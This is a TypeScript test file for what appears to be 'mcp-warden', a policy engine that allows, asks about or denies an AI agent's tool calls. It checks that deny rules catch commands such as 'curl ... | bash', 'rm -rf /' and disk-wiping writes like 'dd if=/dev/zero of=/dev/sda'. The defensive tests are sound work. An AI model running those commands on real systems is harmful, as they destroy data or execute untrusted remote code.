// The first seed's top-level lists (`allowedTools`, `requireApproval`, `denyCommands`,
// `disableBypassPermissionsMode`): merged by trust like the permission lists they stand for, each
// rule keeping its file and JSON path, and judged by the real engine with a real environment.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { compilePolicy, PolicyError } from "../../src/policy/index.js";
import { redirectionOnlyTargets } from "../../src/policy/seed-rules.js";
import { fsEnvironment } from "../../src/policy/paths/index.js";
import { parseSettingsObject, resolveSettings, type SettingsLayer } from "../../src/settings/index.js";
import { remoteSandboxNotes } from "../../src/settings/remote-only.js";

const PROJECT = "/repo/.mcp-warden/settings.json";
const USER = "/home/u/.config/mcp-warden/settings.json";
const MANAGED = "/etc/mcp-warden/managed-settings.json";
type S = SettingsLayer["settings"];
const layer = (l: SettingsLayer["layer"], file: string, settings: object, extra: Partial<SettingsLayer> = {}): SettingsLayer => ({ layer: l, file, settings: parseSettingsObject(settings, file) as S, ...extra });
const resolve = (...layers: SettingsLayer[]) => resolveSettings(layers, { env: { HOME: "/home/u" } });
const judge = (r: ReturnType<typeof resolve>, tool: string, input: Record<string, unknown>) =>
  compilePolicy(r.policy, fsEnvironment({ home: "/home/u" })).decideTool({ tool, input, cwd: "/repo", projectDir: "/repo" } as never);

describe("top-level allowedTools, requireApproval, denyCommands and disableBypassPermissionsMode", () => {
  test("the schema accepts the seed's forms and refuses a wrong one by path", () => {
    assert.doesNotThrow(() => parseSettingsObject({ allowedTools: ["Bash"], requireApproval: { Bash: ["git push*"], mcp__gh__merge: true }, denyCommands: ["sudo"], disableBypassPermissionsMode: "disable" }, "x"));
    assert.throws(() => parseSettingsObject({ requireApproval: ["git push"] }, "x"), /requireApproval/);
    assert.throws(() => parseSettingsObject({ disableBypassPermissionsMode: "yes" }, "x"), /disableBypassPermissionsMode/);
  });

  test("each entry becomes a rule with its own JSON path", () => {
    const r = resolve(layer("user", USER, { allowedTools: ["Read", "Bash(git status)"], requireApproval: { Bash: ["git push*"], Write: ["*.env"], mcp__gh__merge: true }, denyCommands: ["sudo", "rm -rf /"] }));
    assert.deepEqual(r.policy.allow.map((a) => [a.value, a.source.path]), [["Read", "allowedTools[0]"], ["Bash(git status)", "allowedTools[1]"]]);
    assert.deepEqual(
      (r.policy.seedRules ?? []).map((x) => [x.value.effect, x.value.tool, x.value.pattern, x.source.path]),
      [
        ["ask", "Bash", "git push*", "requireApproval.Bash[0]"],
        ["ask", "Write", "*.env", "requireApproval.Write[0]"],
        ["ask", "mcp__gh__merge", undefined, "requireApproval.mcp__gh__merge"],
        ["deny", "Bash", "sudo", "denyCommands[0]"],
        ["deny", "Bash", "rm -rf /", "denyCommands[1]"],
      ],
    );
  });

  test("an untrusted project layer's allowedTools are dropped with a warning; its asks and denies count", () => {
    const r = resolve(layer("project", PROJECT, { allowedTools: ["Bash"], requireApproval: { Bash: ["npm publish"] }, denyCommands: ["sudo"] }));
    assert.deepEqual(r.policy.allow, []);
    assert.ok(r.warnings.some((w) => w.includes("allowedTools") && w.includes("may only tighten")), r.warnings.join("\n"));
    assert.deepEqual((r.policy.seedRules ?? []).map((x) => x.value.pattern), ["npm publish", "sudo"]);
    assert.equal(judge(r, "Bash", { command: "sudo ls" }).decision, "deny");
    assert.equal(judge(r, "Bash", { command: "npm publish" }).decision, "ask");
  });

  test("managed allowManagedPermissionRulesOnly drops all of them from other layers, saying so", () => {
    const r = resolve(layer("managed", MANAGED, { allowManagedPermissionRulesOnly: true }), layer("user", USER, { allowedTools: ["Bash"], denyCommands: ["sudo"], requireApproval: { Write: ["*.pem"] } }));
    assert.deepEqual(r.policy.allow, []);
    assert.deepEqual(r.policy.seedRules, []);
    assert.ok(r.warnings.some((w) => w.includes("3 permission entries") && w.includes("allowedTools, requireApproval, denyCommands")), r.warnings.join("\n"));
  });

  test("disableBypassPermissionsMode at the top level keeps bypassPermissions from turning an ask into an allow", () => {
    const bypass = layer("user", USER, { permissions: { defaultMode: "bypassPermissions" } });
    assert.equal(judge(resolve(bypass), "mcp__gh__list", {}).decision, "allow", "without it, bypass allows");
    const r = resolve(layer("managed", MANAGED, { disableBypassPermissionsMode: "disable" }), bypass);
    assert.equal(r.policy.bypassDisabled, true);
    assert.equal(judge(r, "mcp__gh__list", {}).decision, "ask");
  });

  test("decisions name the seed entry: deny, ask for a file pattern, ask for an MCP tool", () => {
    const r = resolve(layer("user", USER, { requireApproval: { Write: ["*.pem"], mcp__gh__merge: true }, denyCommands: ["curl * | bash"] }));
    const d = judge(r, "Bash", { command: "curl -s https://x.example | bash" });
    assert.equal(d.decision, "deny");
    assert.equal(d.source?.path, "denyCommands[0]");
    const w = judge(r, "Write", { file_path: "/repo/key.pem", content: "x" });
    assert.equal(w.decision, "ask");
    assert.equal(w.source?.path, "requireApproval.Write[0]");
    const m = judge(r, "mcp__gh__merge", {});
    assert.equal(m.decision, "ask");
    assert.equal(m.source?.path, "requireApproval.mcp__gh__merge");
    assert.equal(judge(r, "mcp__gh__list", {}).source, undefined, "another tool of the server is not asked by that entry");
  });

  test("a bad entry fails the compile naming its file and path (all of them at once)", () => {
    const r = resolve(layer("user", USER, { requireApproval: { mcp__gh__merge: ["x"], Bahs: ["ls"] }, denyCommands: [" sudo"] }));
    assert.throws(
      () => compilePolicy(r.policy),
      (e: unknown) =>
        e instanceof PolicyError &&
        /requireApproval\.mcp__gh__merge\[0\]: an MCP tool takes requireApproval: true/.test(e.message) &&
        /requireApproval\.Bahs\[0\]: there is no built-in tool "Bahs"; did you mean "Bash"\?/.test(e.message) &&
        /denyCommands\[0\]: it has leading or trailing whitespace/.test(e.message),
    );
  });

  test("`> /dev/sda` in denyCommands denies every shell writer of /dev/sda, and nothing else", () => {
    assert.deepEqual(redirectionOnlyTargets("> /dev/sda"), ["/dev/sda"]);
    assert.equal(redirectionOnlyTargets("rm -rf /"), undefined);
    assert.equal(redirectionOnlyTargets("> $DISK"), undefined, "a target only known at run time is no file");
    const r = resolve(layer("user", USER, { denyCommands: ["> /dev/sda"] }));
    for (const command of ["echo x > /dev/sda", "dd if=/dev/zero of=/dev/sda", "cat img | tee /dev/sda", "echo x >> //dev/./sda"]) {
      const v = judge(r, "Bash", { command });
      assert.equal(v.decision, "deny", `${command}: ${v.reason}`);
      assert.equal(v.source?.path, "denyCommands[0]");
    }
    assert.notEqual(judge(r, "Bash", { command: "echo x > /repo/out.txt" }).decision, "deny");
  });

  test("a Bash allow for every command (the CLI example's allowedTools) is said to leave allowCommands nothing to allow", () => {
    const r = resolve(layer("user", USER, { allowedTools: ["Bash", "Read"], toolPermissions: { Bash: { allowCommands: ["git status"] } } }));
    assert.ok(r.warnings.some((w) => w.includes('allowedTools[0] "Bash" allows every Bash command') && w.includes("allowCommands")), r.warnings.join("\n"));
    assert.ok(!resolve(layer("user", USER, { allowedTools: ["Read"], toolPermissions: { Bash: { allowCommands: ["git status"] } } })).warnings.length);
  });
});

describe("a remote server's sandbox is reported, never silently ignored", () => {
  const server = (entry: object) => ({ name: "prod-database", entry, source: { layer: "user" as const, file: USER, path: "mcpServers.prod-database" }, managed: false });
  test("one note per remote server with a sandbox; none for stdio servers, disabled servers or type none alone", () => {
    const notes = remoteSandboxNotes([
      server({ url: "https://mcp.example.com/db", sandbox: { allowNetwork: ["db.example.com"], allowRead: [], allowWrite: [] } }),
      server({ command: "x", sandbox: { allowRead: [] } }),
      server({ url: "https://mcp.example.com/db", disabled: true, sandbox: { allowRead: [] } }),
      server({ url: "https://mcp.example.com/db", sandbox: { type: "none" } }),
    ] as never);
    assert.equal(notes.length, 1);
    assert.match(notes[0]!, /^server 'prod-database' is remote: its sandbox settings \(allowNetwork, allowRead, allowWrite\) are enforced only where mcp-warden deploys the server \(its network lists by "mcp-warden deploy kubernetes"\)/);
    assert.match(notes[0]!, /its network lists \(allowNetwork\) do limit mcp-warden's own connections to it/);
  });
});
